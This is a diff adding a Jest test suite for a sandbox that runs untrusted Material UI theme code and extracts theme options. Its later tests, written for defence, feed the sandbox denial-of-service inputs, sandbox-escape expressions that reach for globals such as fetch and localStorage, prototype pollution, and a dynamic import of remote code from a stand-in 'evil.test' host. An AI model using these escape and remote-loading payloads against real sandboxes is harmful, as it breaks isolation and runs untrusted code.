@@ -1,0 +1,422 @@
+import fs from 'node:fs';
+import path from 'node:path';
+import { createTheme } from '@mui/material/styles';
+import { SandboxError } from './engine';
+import { runTheme, type ThemeRun } from './runTheme';
+
+jest.setTimeout(60_000);
+
+const run = (code: string, name = 'theme.ts') => runTheme([{ name, code }]);
+const STYLES =
+  "import { createTheme, alpha, darken, responsiveFontSizes } from '@mui/material/styles';\n";
+
+/** The options of the likeliest theme. */
+async function optionsOf(code: string, name?: string) {
+  const done = await run(code, name);
+  return { names: done.candidates.map((candidate) => candidate.name), ...done.options(0) };
+}
+
+/** Forms in which applications write their themes. */
+it.each<[string, string, object]>([
+  [
+    'color functions and palettes',
+    `${STYLES}import { colors } from '@mui/material'; import teal from '@mui/material/colors/teal';
+    export const theme = createTheme({ palette: { primary: teal, secondary: { main: colors.pink[500], dark: darken('#fff', 0.5) }, divider: alpha('#000', 0.1) } });`,
+    {
+      palette: {
+        primary: { 500: '#009688' },
+        secondary: { main: '#e91e63', dark: 'rgb(127, 127, 127)' },
+        divider: 'rgba(0, 0, 0, 0.1)',
+      },
+    },
+  ],
+  [
+    'conditions, enums, destructuring, and classes',
+    `${STYLES}enum Size { Small = 4 } const [a, b] = [1, 2]; const { c = 3 } = {} as { c?: number };
+    class Tokens { static radius = a + b + c; get half() { return Tokens.radius / 2; } }
+    export default createTheme({ spacing: Size.Small, shape: { borderRadius: new Tokens().half }, ...(a < b && { zIndex: { drawer: 9 } }) });`,
+    { spacing: 4, shape: { borderRadius: 3 }, zIndex: { drawer: 9 } },
+  ],
+  [
+    'assignments after the call',
+    `${STYLES}const theme = createTheme({ palette: { primary: { main: '#123456' } } });
+    theme.typography.h1 = { ...theme.typography.h1, [theme.breakpoints.up('md')]: { fontSize: '4rem' } };
+    theme.components = { MuiCard: { defaultProps: { raised: true } } };
+    export default theme;`,
+    {
+      palette: { primary: { main: '#123456' } },
+      typography: { h1: { '@media (min-width:900px)': { fontSize: '4rem' } } },
+      components: { MuiCard: { defaultProps: { raised: true } } },
+    },
+  ],
+  [
+    'a theme that is made of another one',
+    `${STYLES}const base = createTheme({ spacing: 4, palette: { mode: 'dark' } });
+    export const theme = createTheme(base, { shape: { borderRadius: base.spacing(2) } });`,
+    { spacing: 4, palette: { mode: 'dark' }, shape: { borderRadius: '8px' } },
+  ],
+  [
+    'responsive font sizes',
+    `${STYLES}export const theme = responsiveFontSizes(createTheme({ spacing: 2 }));`,
+    {
+      spacing: 2,
+      typography: {
+        h1: { fontSize: '3.5rem', '@media (min-width:600px)': { fontSize: '4.7129rem' } },
+      },
+    },
+  ],
+  [
+    'typography as a function of the palette',
+    `${STYLES}export const theme = createTheme({ palette: { text: { primary: '#222222' } }, typography: (palette) => ({ h6: { color: palette.text.primary } }) });`,
+    { typography: { h6: { color: '#222222' } } },
+  ],
+  [
+    'a font of Next.js',
+    `import { Source_Sans_3 } from 'next/font/google';\n${STYLES}const font = Source_Sans_3({ subsets: ['latin'] });
+    export const theme = createTheme({ typography: { fontFamily: font.style.fontFamily } });`,
+    { typography: { fontFamily: '"Source Sans 3", sans-serif' } },
+  ],
+  [
+    'merged options',
+    `import { deepmerge } from '@mui/utils';\nexport const options = deepmerge({ spacing: 4, shape: { borderRadius: 1 } }, { shape: { borderRadius: 2 } });`,
+    { spacing: 4, shape: { borderRadius: 2 } },
+  ],
+  [
+    'Material UI 4',
+    `import { createMuiTheme, fade } from '@material-ui/core/styles';
+    export default createMuiTheme({ palette: { type: 'dark', divider: fade('#ffffff', 0.5) }, props: { MuiButton: { disableElevation: true } }, overrides: { MuiButton: { root: { borderRadius: 9 } } } });`,
+    {
+      palette: { mode: 'dark', divider: 'rgba(255, 255, 255, 0.5)' },
+      components: {
+        MuiButton: {
+          defaultProps: { disableElevation: true },
+          styleOverrides: { root: { borderRadius: 9 } },
+        },
+      },
+    },
+  ],
+  [
+    'colors that Material UI refuses',
+    `${STYLES}export const theme = createTheme({ spacing: 3, palette: { primary: { main: 'tomato' } } });`,
+    { spacing: 3, palette: { primary: { main: 'tomato' } } },
+  ],
+])('reads %s', async (_what, code, expected) => {
+  expect((await optionsOf(code)).light).toMatchObject(expected);
+});
+
+it.each<[string, string, string[], object, object | null]>([
+  [
+    'a light and a dark theme',
+    `${STYLES}const of = (mode: 'light' | 'dark') => createTheme({ palette: { mode } });
+    export const lightTheme = of('light');
+    export const darkTheme = of('dark');`,
+    ['lightTheme + darkTheme', 'lightTheme', 'darkTheme'],
+    { palette: { mode: 'light' } },
+    { palette: { mode: 'dark' } },
+  ],
+  [
+    'options by mode',
+    "export const getDesignTokens = (mode) => ({ palette: { mode, divider: mode === 'dark' ? '#444444' : '#dddddd' } });",
+    ['getDesignTokens(mode)'],
+    { palette: { divider: '#dddddd' } },
+    { palette: { divider: '#444444' } },
+  ],
+  [
+    'a function of an object',
+    `${STYLES}export default function build({ mode }: { mode: 'light' | 'dark' }) { return createTheme({ palette: { mode } }); }`,
+    ['default(mode)'],
+    { palette: { mode: 'light' } },
+    { palette: { mode: 'dark' } },
+  ],
+  [
+    'a function without arguments',
+    `${STYLES}export const makeTheme = () => createTheme({ spacing: 7 });`,
+    ['makeTheme()'],
+    { spacing: 7 },
+    null,
+  ],
+  [
+    'several themes',
+    `${STYLES}export const forest = createTheme({ spacing: 1 }); export const theme = createTheme({ spacing: 2 }); export const all = { sea: createTheme({ spacing: 3 }) };`,
+    ['theme', 'forest', 'all.sea'],
+    { spacing: 2 },
+    null,
+  ],
+])('finds %s', async (_what, code, names, light, dark) => {
+  const found = await optionsOf(code);
+  expect(found.names).toEqual(names);
+  expect(found.light).toMatchObject(light);
+  expect(found.dark).toEqual(dark && expect.objectContaining(dark));
+});
+
+it('finds the theme of a component that provides it, by its line', async () => {
+  const found = await optionsOf(
+    `import * as React from 'react';
+import { ThemeProvider, createTheme } from '@mui/material/styles';
+import CssBaseline from '@mui/material/CssBaseline';
+export default function Providers({ children }) {
+  const [mode] = React.useState('dark');
+  const theme = React.useMemo(() => createTheme({ palette: { mode } }), [mode]);
+  return <ThemeProvider theme={theme}><CssBaseline />{children}</ThemeProvider>;
+}`,
+    'Providers.tsx',
+  );
+  expect(found).toMatchObject({
+    names: ['createTheme(), line 6'],
+    light: { palette: { mode: 'dark' } },
+  });
+});
+
+it('resolves imports among files, and names what is missing with its use', async () => {
+  const done = await runTheme([
+    {
+      name: 'theme/index.ts',
+      code: `${STYLES}import { palette } from './palette'; import tokens from '@/theme/tokens.json'; import merge from 'lodash/merge'; import { brand } from '../brand';\nexport const theme = createTheme({ palette, spacing: tokens.gap, shape: merge({}, { borderRadius: brand.radius }) });`,
+    },
+    { name: 'theme/palette.ts', code: "export const palette = { mode: 'dark' };" },
+    { name: 'theme/tokens.json', code: '{ "gap": 5 }' },
+  ]);
+  expect(done.candidates.map(({ name, file }) => [name, file])).toEqual([
+    ['theme', 'theme/index.ts'],
+  ]);
+  expect(done.missing).toEqual([
+    ['lodash/merge', ['default']],
+    ['../brand', ['brand']],
+  ]);
+  expect(done.options(0).light).toEqual({
+    palette: { mode: 'dark' },
+    spacing: 5,
+    shape: { $missing: 'default()' },
+  });
+});
+
+it.each([
+  [
+    'an error',
+    `${STYLES}\nconst a = undefined;\nexport const theme = createTheme(a.b);`,
+    /cannot read property 'b'/,
+    ['theme.ts:4'],
+  ],
+  [
+    'a mistake in the syntax',
+    'export const theme = {\n  a: ,\n};',
+    /Unexpected token/,
+    ['theme.ts:2'],
+  ],
+  [
+    'something of the browser',
+    'export const theme = {\n  spacing: window.devicePixelRatio };',
+    /window/,
+    ['theme.ts:2'],
+  ],
+])('says where %s is', async (_what, code, message, places) => {
+  const error = (await run(code).catch((thrown: unknown) => thrown)) as SandboxError;
+  expect(error).toBeInstanceOf(SandboxError);
+  expect(error.message).toMatch(message);
+  expect(error.places.slice(0, 1)).toEqual(places);
+});
+
+describe('style functions', () => {
+  const styled = (root: string) =>
+    `${STYLES}export const theme = createTheme({ spacing: 4, components: { MuiButton: { styleOverrides: { root: ${root} } } } });`;
+  const theme = createTheme({ spacing: 4, palette: { primary: { main: '#0000ff' } } });
+  const styles = (done: ThemeRun, ownerState: object, props: object = {}) =>
+    done.call(0, [{ theme, ownerState, ...props }], 4);
+
+  it('get the theme of the page and the props of the component', async () => {
+    const done = await run(
+      styled(`({ ownerState: { color, size }, theme: { palette, spacing } }) => {
+        if (color !== 'primary') { return { color: 'inherit' }; }
+        const sizes = new Map([['small', 1]]);
+        return { color: alpha(palette[color].main, 0.5), padding: spacing(sizes.get(size) ?? 2) };
+      }`),
+    );
+    expect(done.options(0).light).toMatchObject({
+      components: { MuiButton: { styleOverrides: { root: { $fn: 0 } } } },
+    });
+    expect(styles(done, { color: 'primary', size: 'small' })).toEqual({
+      color: 'rgba(0, 0, 255, 0.5)',
+      padding: '4px',
+    });
+    expect(styles(done, { color: 'primary' })).toEqual({
+      color: 'rgba(0, 0, 255, 0.5)',
+      padding: '8px',
+    });
+    expect(styles(done, { color: 'error' })).toEqual({ color: 'inherit' });
+  });
+
+  it('can spread props, use sx and the variables of the theme, and be conditions', async () => {
+    const done = await run(
+      styled(
+        '({ theme, ...rest }) => ({ ...theme.unstable_sx({ px: rest.dense ? 1 : 2 }), color: (theme.vars || theme).palette.primary.main })',
+      ),
+    );
+    done.options(0);
+    expect(styles(done, {}, { dense: true })).toEqual({
+      paddingLeft: '4px',
+      paddingRight: '4px',
+      color: '#0000ff',
+    });
+    const condition = await run(
+      styled("({ ownerState }) => ownerState.variant === 'text' && ownerState.color !== 'error'"),
+    );
+    condition.options(0);
+    expect(styles(condition, { variant: 'text' })).toBe(true);
+    expect(styles(condition, { variant: 'text', color: 'error' })).toBe(false);
+  });
+
+  it('run once for the same props, whatever else changes', async () => {
+    const done = await run(
+      `let count = 0;\n${styled('({ ownerState }) => ({ order: ownerState.color ? ++count : 0 })')}`,
+    );
+    done.options(0);
+    expect(styles(done, { color: 'a', children: ['x'] })).toEqual({ order: 1 });
+    expect(styles(done, { color: 'a', onClick: () => undefined })).toEqual({ order: 1 });
+    expect(styles(done, { color: 'b' })).toEqual({ order: 2 });
+  });
+
+  it('never see functions, elements, or long lists of the page', async () => {
+    const done = await run(
+      styled(
+        '({ ownerState }) => ({ content: Object.keys(ownerState).map((key) => key + ":" + JSON.stringify(ownerState[key])).join() })',
+      ),
+    );
+    done.options(0);
+    const ownerState = {
+      rows: Array.from({ length: 1000 }, () => 1),
+      run: () => 1,
+      element: { $$typeof: Symbol.for('x') },
+      node: new Date(0),
+      list: [1, { a: 2 }],
+    };
+    expect(styles(done, ownerState)).toEqual({
+      content: 'rows:[],run:undefined,element:undefined,node:undefined,list:[1,{"a":2}]',
+    });
+  });
+
+  it('that fail are reported with their line, and are not called again', async () => {
+    const done = await run(
+      styled('({ ownerState }) => ({\n color: ownerState.color.name.first })'),
+    );
+    done.options(0);
+    const listener = jest.fn();
+    done.onFault(listener);
+    expect(styles(done, { color: 'a' })).toBeUndefined();
+    expect([...done.faults.values()]).toEqual([
+      { message: expect.stringContaining('first') as string, place: 'theme.ts:3' },
+    ]);
+    await Promise.resolve();
+    expect(listener).toHaveBeenCalledTimes(1);
+    expect(styles(done, { color: { name: { first: 'red' } } })).toBeUndefined();
+  });
+
+  it('that never end are stopped, and the others with them in the end', async () => {
+    const roots = [0, 1, 2, 3].map(
+      (index) =>
+        `Mui${'ABCD'[index]}: { styleOverrides: { root: ({ ownerState }) => { for (;;) {} } } }`,
+    );
+    const done = await run(`export const theme = { components: { ${roots.join(', ')} } };`);
+    done.options(0);
+    const start = performance.now();
+    for (let index = 0; index < 400; index += 1) {
+      expect(done.call(index % 4, [{ theme, ownerState: { index } }])).toBeUndefined();
+    }
+    expect(performance.now() - start).toBeLessThan(2000);
+  });
+});
+
+/** What a link could contain. */
+it.each([
+  ['an endless loop', 'for (;;) {}', /too long/],
+  [
+    'a loop of promises',
+    'export const theme = {}; const again = () => Promise.resolve().then(again); again();',
+    null,
+  ],
+  [
+    'ten million objects',
+    'const all = []; for (let i = 0; i < 1e7; i += 1) { all.push({ i }); }',
+    /memory|too long/,
+  ],
+  ['deep recursion', 'const deep = () => deep() + 1; deep();', /stack|too much recursion/i],
+  ['recursion in a sort', 'const deep = () => [2, 1].sort(deep) && 0; deep();', /stack|too long/i],
+  ['a text that doubles', "let text = 'x'; for (;;) { text += text; }", /memory|too long|length/i],
+  ['a regular expression without an end', "/^(a+)+$/.test('a'.repeat(60) + 'b');", /too long/],
+  [
+    'a theme in itself',
+    'const a: Record<string, unknown> = { spacing: 1 }; a.shape = a; export const theme = a;',
+    /contains itself/,
+  ],
+  [
+    'a getter without an end',
+    'export const theme = { get spacing() { for (;;) {} } };',
+    /too long/,
+  ],
+  [
+    'a proxy that has all keys',
+    'export const theme = new Proxy({ spacing: 1 }, { ownKeys: () => Array.from({ length: 1e6 }, (_, i) => String(i)), getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true, value: 1 }) });',
+    /too large|too long|memory|candidates/,
+  ],
+])('stops %s', async (_what, code, message) => {
+  const start = performance.now();
+  const result = await run(code)
+    .then((done) => (done.candidates.length > 0 ? done.options(0) : 'no candidates'))
+    .catch((error: unknown) => (error instanceof SandboxError ? error.message : String(error)));
+  expect(performance.now() - start).toBeLessThan(6000);
+  if (message) {
+    expect(String(result)).toMatch(message);
+  }
+});
+
+it.each([
+  'constructor.constructor("return globalThis")()',
+  'Function("return this")()',
+  '(0, eval)("this")',
+  'new Function("return this")()',
+  '(async () => {}).constructor("return this")()',
+  'globalThis',
+])('reaches nothing of the page through %s', async (expression) => {
+  const names = [
+    'window',
+    'document',
+    'fetch',
+    'XMLHttpRequest',
+    'WebSocket',
+    'localStorage',
+    'navigator',
+    'require',
+    'Worker',
+    'importScripts',
+    'WebAssembly',
+    'performance',
+  ];
+  const { light } = await optionsOf(
+    `const reached = ${expression};\nexport const theme = { custom: ${JSON.stringify(names)}.filter((name) => reached && typeof (reached[name] ?? undefined) !== 'undefined') , spacing: 1 };`,
+  );
+  expect(light).toEqual({ custom: [], spacing: 1 });
+});
+
+it('leaves the prototypes and the intrinsics of the page alone', async () => {
+  const done = await run(
+    `Object.prototype.polluted = 1; Array.prototype.map = () => ['x']; JSON.stringify = () => '{"light":{"spacing":9}}'; Object.keys = () => [];
+    export const theme = { __proto__: { a: 1 }, spacing: 1 };`,
+  ).catch((error: unknown) => error);
+  expect({}).not.toHaveProperty('polluted');
+  expect([1].map((value) => value + 1)).toEqual([2]);
+  expect(done).toBeDefined();
+});
+
+it('loads no module at run time', async () => {
+  const { light } = await optionsOf(
+    "import('https://evil.test/x.js').catch(() => 0);\nexport const theme = { spacing: 1 };",
+  );
+  expect(light).toEqual({ spacing: 1 });
+});
+
+it('starts with what the build bundles for it', async () => {
+  const { buildGuest } = await import('@site/src/reader-theme/node/buildGuest');
+  const built = await buildGuest(process.cwd());
+  const { loadGuest } = await import('./guestSource');
+  expect(built.length).toBe((await loadGuest()).length);
+  expect(fs.existsSync(path.resolve('src/reader-theme/node/guest/index.ts'))).toBe(true);
+});
